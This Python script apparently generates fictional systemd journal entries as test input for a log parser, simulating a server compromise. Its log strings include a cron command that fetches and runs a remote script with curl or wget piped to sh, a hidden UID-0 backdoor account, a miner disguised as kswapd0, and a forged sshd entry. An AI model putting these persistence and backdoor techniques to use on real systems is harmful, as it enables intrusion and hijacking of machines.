#!/usr/bin/env python3
"""Writes the entries of the test journals in the Journal Export Format.

A small server: a boot, an administrator, the noise of the internet, an intrusion.
All of it is made up and inert.
"""
import struct
import sys

BOOT = "0123456789abcdef0123456789abcdef"
MACHINE = "fedcba9876543210fedcba9876543210"
START = 1_795_247_400_000_000  # 2026-11-21T07:50:00Z, microseconds
clock = 0


def write(fields):
    out = sys.stdout.buffer
    for k, v in fields:
        b = v if isinstance(v, bytes) else str(v).encode()
        if b"\n" in b or any(c < 32 for c in b):
            out.write(k.encode() + b"\n" + struct.pack("<Q", len(b)) + b + b"\n")
        else:
            out.write(k.encode() + b"=" + b + b"\n")
    out.write(b"\n")


def entry(after, message, ident=None, comm=None, pid=None, uid=0, exe=None, unit=None, sent=True, extra=()):
    """One entry, some microseconds after the one before."""
    global clock
    clock += after
    f = [
        ("__REALTIME_TIMESTAMP", START + clock),
        ("__MONOTONIC_TIMESTAMP", 20_000_000 + clock),
        ("_BOOT_ID", BOOT),
        ("_MACHINE_ID", MACHINE),
        ("_HOSTNAME", "web02"),
        ("PRIORITY", 6),
    ]
    if ident:
        f.append(("SYSLOG_IDENTIFIER", ident))
    if comm:
        f.append(("_COMM", comm))
    if pid:
        f += [("_PID", pid), ("SYSLOG_PID", pid)]
    f.append(("_UID", uid))
    if exe:
        f.append(("_EXE", exe))
    if unit:
        f.append(("_SYSTEMD_UNIT", unit))
    if sent:
        f.append(("_SOURCE_REALTIME_TIMESTAMP", START + clock - 1234))
    if message is not None:
        f.append(("MESSAGE", message))
    write(f + list(extra))


def sshd(after, pid, message):
    entry(after, message, "sshd", "sshd", pid, exe="/usr/sbin/sshd", unit="ssh.service")


def manager(after, message, unit, kind="UNIT", pid=1, uid=0, unit_of="init.scope"):
    entry(after, message, "systemd", "systemd", pid, uid, exe="/usr/lib/systemd/systemd", unit=unit_of, extra=[(kind, unit), ("JOB_TYPE", "start")])


second = 1_000_000
entry(0, "Linux version 6.1.0-amd64 (inert)", "kernel", sent=False, extra=[("_TRANSPORT", "kernel")])
manager(second, "Started ssh.service - OpenBSD Secure Shell server.", "ssh.service")
manager(second, "Started Regular background program processing daemon.", "cron.service")  # as before version 250
manager(second, "Started session-1.scope - Session 1 of User deploy.", "session-1.scope")
manager(second, "Started dbus.service - D-Bus User Message Bus.", "dbus.service", "USER_UNIT", 420, 1000, "user@1000.service")
sshd(second, 400, "Accepted publickey for deploy from 198.51.100.10 port 40000 ssh2: ED25519 SHA256:3mWk9vYx8mVqJc0rF1sQm2bUu9T7n5o4p6Z8y1x2c3E")
sshd(1000, 400, "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)")
entry(second, "  deploy : TTY=pts/0 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl restart app", "sudo", "sudo", 410, 1000, "/usr/bin/sudo", "session-1.scope")
entry(second, "  deploy : TTY=pts/0 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/tar -cf /srv/backup.tar " + " ".join("/srv/app/part-%03d" % i for i in range(60)),
      "sudo", "sudo", 411, 1000, "/usr/bin/sudo", "session-1.scope")
for i in range(40):
    sshd(second, 500 + i // 3, "Failed password for %s from 203.0.113.77 port %d ssh2" % (["root", "invalid user admin", "invalid user oracle"][i % 3], 41000 + i // 3))
sshd(second, 600, "Accepted password for root from 203.0.113.77 port 41022 ssh2")
sshd(1000, 600, "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)")
entry(second, "new user: name=sysupd, UID=0, GID=0, home=/var/tmp/.sysupd, shell=/bin/bash, from=/dev/pts/1", "useradd", "useradd", 610, exe="/usr/sbin/useradd", unit="session-2.scope")
entry(second, "pam_unix(chpasswd:chauthtok): password changed for sysupd", "chpasswd", "chpasswd", 611, exe="/usr/sbin/chpasswd", unit="session-2.scope")
entry(second, "(root) REPLACE (root)", "crontab", "crontab", 612, exe="/usr/bin/crontab", unit="session-2.scope")
for i in range(3):
    entry(60 * second, "(root) CMD ((curl -fsSL http://203.0.113.77/i.sh || wget -q -O- http://203.0.113.77/i.sh) | sh)", "CRON", "sh", 700 + i, exe="/usr/bin/dash", unit="cron.service")
manager(second, "Started systemd-resolve-helper.service - Network Name Resolution Helper.", "systemd-resolve-helper.service")
for i in range(3):
    entry(second, "speed 10s/60s/15m %d H/s (inert)" % (800 + i), "kswapd0", "kswapd0", 720, exe="/var/tmp/.sysupd/kswapd0", unit="systemd-resolve-helper.service", extra=[("_TRANSPORT", "stdout")])
# Somebody who is not sshd writes in its name.
entry(second, "Accepted password for root from 192.0.2.66 port 5 ssh2", "sshd", "logger", 730, 33, "/usr/bin/logger", "apache2.service")
# What a reader must get over: no identifier, no message, bytes, several lines, a field twice, long values.
entry(second, "Accepted password for deploy from 198.51.100.11 port 40001 ssh2", None, "sshd", 740, exe="/usr/sbin/sshd", unit="ssh.service")
entry(second, None, "nobody", "nobody", 741, 65534)
entry(second, b"bytes \x00\x01\xff and\nlines", "app", "app", 742, 1000, "/srv/app/bin/app", "app.service", extra=[("COLOR", "red"), ("COLOR", "blue")])
entry(second, "long: " + "".join(chr(97 + (i * i) % 26) for i in range(9000)), "app", "app", 742, 1000, "/srv/app/bin/app", "app.service", extra=[("NOISE", "x" * 20000)])
sshd(second, 600, "pam_unix(sshd:session): session closed for user root")
